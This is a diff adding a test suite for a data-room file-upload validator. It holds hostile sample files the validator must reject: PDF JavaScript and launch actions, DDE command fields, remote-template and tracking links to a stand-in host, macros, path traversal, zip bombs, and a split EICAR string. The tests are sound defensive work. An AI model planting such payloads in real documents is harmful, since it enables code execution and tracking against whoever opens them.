@@ -1,0 +1,237 @@
+import assert from 'node:assert/strict'
+import { after, before, describe, it } from 'node:test'
+import { strToU8, zipSync } from 'fflate'
+import { openFileWork } from '../../src/documents/room-files/file-work.ts'
+import type { FileFault, FileKind } from '../../src/domain/data-room.ts'
+import { ask, is } from '../_contract.ts'
+import {
+  addedFolder,
+  jpegOf,
+  largePng,
+  linkOutside,
+  officeWith,
+  pdfWith,
+  pngOf,
+  sentPart,
+  startedUpload,
+  uploaded,
+} from '../_room-files.ts'
+import { pairUp, seedBuyer, seedSeller } from '../_seed.ts'
+import { startService, type TestHouse } from '../_service.ts'
+
+/** The test file of virus scanners, in two halves so that this file is not taken for it. */
+const EICAR = Buffer.from(`${'X5O!P%@AP[4\\PZX54(P^)7CC)7}'}${'$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'}`)
+const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 1)])
+
+const xml = (text: string) => strToU8(`<?xml version="1.0"?>${text}`)
+
+const rels = 'word/_rels/document.xml.rels'
+
+/** An archive whose directory says that a megabyte of zeros is eight bytes. */
+function liar(): Buffer {
+  const zip = officeWith('docx', { 'word/zeros.xml': new Uint8Array(1_000_000) })
+  const at = zip.lastIndexOf('word/zeros.xml') - 46
+  zip.writeUInt32LE(8, at + 24)
+  return zip
+}
+
+/** What is uploaded, under which name it passes, and why it is not taken. */
+const HOSTILE: readonly [what: string, kind: FileKind, bytes: Buffer, fault: FileFault][] = [
+  ['the test file of virus scanners as a PDF', 'pdf', EICAR, 'not_its_kind'],
+  ['a program as a PDF', 'pdf', PROGRAM, 'not_its_kind'],
+  ['a page of HTML as a PDF', 'pdf', Buffer.from('<html><script>alert(1)</script></html>'), 'not_its_kind'],
+  ['a PDF behind a page of HTML', 'pdf', Buffer.concat([Buffer.from('<script>1</script>'), pdfWith()]), 'not_its_kind'],
+  ['a PDF that ends after its header', 'pdf', Buffer.from('%PDF-1.7\n'), 'unreadable'],
+  [
+    'a PDF with a script when it opens',
+    'pdf',
+    pdfWith('x', { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
+    'active',
+  ],
+  [
+    'a PDF whose script is spelt with escapes',
+    'pdf',
+    pdfWith('x', { catalogue: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
+    'active',
+  ],
+  [
+    'a PDF that starts a program',
+    'pdf',
+    pdfWith('x', { catalogue: '/OpenAction 6 0 R', objects: '6 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj' }),
+    'active',
+  ],
+  [
+    'a PDF that sends a form',
+    'pdf',
+    pdfWith('x', { objects: '6 0 obj\n<< /S /SubmitForm /F (https://elsewhere.example) >>\nendobj' }),
+    'active',
+  ],
+  [
+    'a PDF that carries a file',
+    'pdf',
+    pdfWith('x', { catalogue: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
+    'active',
+  ],
+  [
+    'a PDF with a password',
+    'pdf',
+    Buffer.from(
+      pdfWith('x', { objects: '6 0 obj\n<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -1 >>\nendobj' })
+        .toString('latin1')
+        .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 6 0 R /ID [(a) (a)]'),
+      'latin1',
+    ),
+    'locked',
+  ],
+  ['an archive as a workbook', 'xlsx', Buffer.from(zipSync({ 'a.txt': strToU8('a') })), 'active'],
+  ['a document as a workbook', 'xlsx', officeWith('docx'), 'not_its_kind'],
+  [
+    'a workbook with macros under another name',
+    'xlsx',
+    officeWith('xlsx', {}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
+    'active',
+  ],
+  ['a document with a macro', 'docx', officeWith('docx', { 'word/vbaProject.bin': strToU8('x') }), 'active'],
+  ['a document with a program inside', 'docx', officeWith('docx', { 'word/media/image1.png': PROGRAM }), 'active'],
+  ['a document with a script inside', 'docx', officeWith('docx', { 'word/run.js': strToU8('1') }), 'active'],
+  [
+    'a document with an object',
+    'docx',
+    officeWith('docx', { 'word/embeddings/oleObject1.bin': strToU8('x') }),
+    'active',
+  ],
+  [
+    'a document that fetches its template',
+    'docx',
+    officeWith('docx', { [rels]: linkOutside('attachedTemplate', 'https://elsewhere.example/t.dotm') }),
+    'active',
+  ],
+  [
+    'a document that tells when it is opened, by a picture',
+    'docx',
+    officeWith('docx', { [rels]: linkOutside('image', 'https://elsewhere.example/seen.png') }),
+    'active',
+  ],
+  [
+    'a document that fetches, spelt with character references',
+    'docx',
+    officeWith('docx', {
+      [rels]: xml(
+        '<r:Relationships xmlns:r="x"><r:Relationship Id="1" Type="http://x/attachedTemplate" Target="t" TargetMode="&#69;xternal"/></r:Relationships>',
+      ),
+    }),
+    'active',
+  ],
+  [
+    'a document that runs a command',
+    'docx',
+    officeWith('docx', {
+      'word/header1.xml': xml(
+        '<w:p xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:p>',
+      ),
+    }),
+    'active',
+  ],
+  [
+    'a workbook that runs a command',
+    'xlsx',
+    officeWith('xlsx', {
+      'xl/externalLinks/externalLink1.xml': xml('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
+    }),
+    'active',
+  ],
+  [
+    'a document with a document type',
+    'docx',
+    officeWith('docx', { 'word/a.xml': xml('<!DOCTYPE a []><a/>') }),
+    'unreadable',
+  ],
+  [
+    'a document that leads out of its folder',
+    'docx',
+    officeWith('docx', { '../../evil.xml': xml('<a/>') }),
+    'unreadable',
+  ],
+  ['a document that says it is small and is not', 'docx', liar(), 'unreadable'],
+  [
+    'a document that unpacks to 400 MB',
+    'docx',
+    officeWith('docx', {
+      'word/a.xml': [new Uint8Array(200 * 1_048_576), { level: 1 }],
+      'word/b.xml': [new Uint8Array(200 * 1_048_576), { level: 1 }],
+    }),
+    'bloated',
+  ],
+  ['a drawing with a script as an image', 'png', Buffer.from('<svg onload="alert(1)"/>'), 'not_its_kind'],
+  ['an archive behind an image', 'png', Buffer.concat([pngOf(), officeWith('docx')]), 'active'],
+  ['an image of 4,000 megapixels', 'png', pngOf(100_000, 40_000), 'bloated'],
+  ['a program behind a photograph', 'jpeg', jpegOf(PROGRAM), 'active'],
+]
+
+describe('an adversary who uploads what is not what it says', () => {
+  const work = openFileWork()
+  for (const [what, kind, bytes, fault] of HOSTILE)
+    it(`fails with ${what}`, async () => {
+      assert.equal(await work.check(kind, async () => new Uint8Array(bytes)), fault)
+    })
+  it('is not mistaken for whoever uploads what everybody does', async () => {
+    const harmless: [FileKind, Buffer][] = [
+      ['pdf', pdfWith('x', { objects: '6 0 obj\n<< /S /URI /URI (https://morvan.example) >>\nendobj' })],
+      ['docx', officeWith('docx', { [rels]: linkOutside('hyperlink', 'https://morvan.example') })],
+      ['docx', officeWith('docx', { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': officeWith('xlsx') })],
+      ['xlsx', officeWith('xlsx', { 'xl/printerSettings/printerSettings1.bin': strToU8('x') })],
+      ['xlsx', officeWith('xlsx', { 'xl/externalLinks/_rels/a.rels': linkOutside('externalLinkPath', 'other.xlsx') })],
+      ['png', pngOf()],
+      ['jpeg', jpegOf()],
+    ]
+    for (const [kind, bytes] of harmless) assert.equal(await work.check(kind, async () => new Uint8Array(bytes)), null)
+  })
+  it('holds up nobody with a file that takes for ever', async () => {
+    const hurried = openFileWork({ limitMs: 1, heapMb: 64 })
+    assert.match(String(await hurried.check('pdf', async () => new Uint8Array(pdfWith()))), /^(?:unreadable|late)$/)
+    assert.equal(await work.check('png', async () => new Uint8Array(pngOf())), null)
+  })
+})
+
+describe('an adversary in a data room', () => {
+  let app: TestHouse
+  before(async () => {
+    app = await startService()
+  })
+  after(() => app.close())
+
+  it('does not change a file after it was checked', async () => {
+    const seller = await seedSeller(app)
+    const folderId = await addedFolder(app, seller)
+    const good = largePng(600_000)
+    const { document_id } = (await startedUpload(app, seller, folderId, 'a.png', good)).body
+    for (const part of [0, 1]) is(await sentPart(app, seller, document_id, part, good), 200)
+    const params = { document_id }
+    const finishing = ask(app, 'finishUpload', { key: seller.key, params, body: {} })
+    const evil = Buffer.concat([PROGRAM, good.subarray(PROGRAM.length)])
+    const meanwhile = await sentPart(app, seller, document_id, 0, evil)
+    const finished = await finishing
+    const answer = await fetch(`${app.url}/api/data-room/${seller.key}/documents/${document_id}`)
+    if (answer.status === 200) assert.ok(Buffer.from(await answer.arrayBuffer()).equals(good))
+    else assert.notEqual(finished.status, 200)
+    assert.ok([200, 404].includes(meanwhile.status))
+  })
+
+  it('learns nothing by asking for documents by number', async () => {
+    const [seller, buyer] = [await seedSeller(app), await seedBuyer(app)]
+    const folderId = await addedFolder(app, seller)
+    const { document_id } = (await uploaded(app, seller, folderId, 'a.png', pngOf())).body
+    await pairUp(app, buyer, seller.id)
+    is(await app.sign(buyer.key), 200)
+    is(await ask(app, 'listPairings', { key: buyer.key }), 200)
+    const pair_id = `pair-${buyer.id}-${seller.id}`
+    const answers = await Promise.all(
+      [document_id, document_id + 1000].map((id) =>
+        ask(app, 'downloadReleasedDocument', { key: buyer.key, params: { pair_id, document_id: id } }),
+      ),
+    )
+    const [there, nowhere] = answers.map(({ status, body }) => ({ status, ...body, instance: '' }))
+    assert.deepEqual(there, nowhere)
+    assert.equal(answers[0]?.status, 404)
+  })
+})
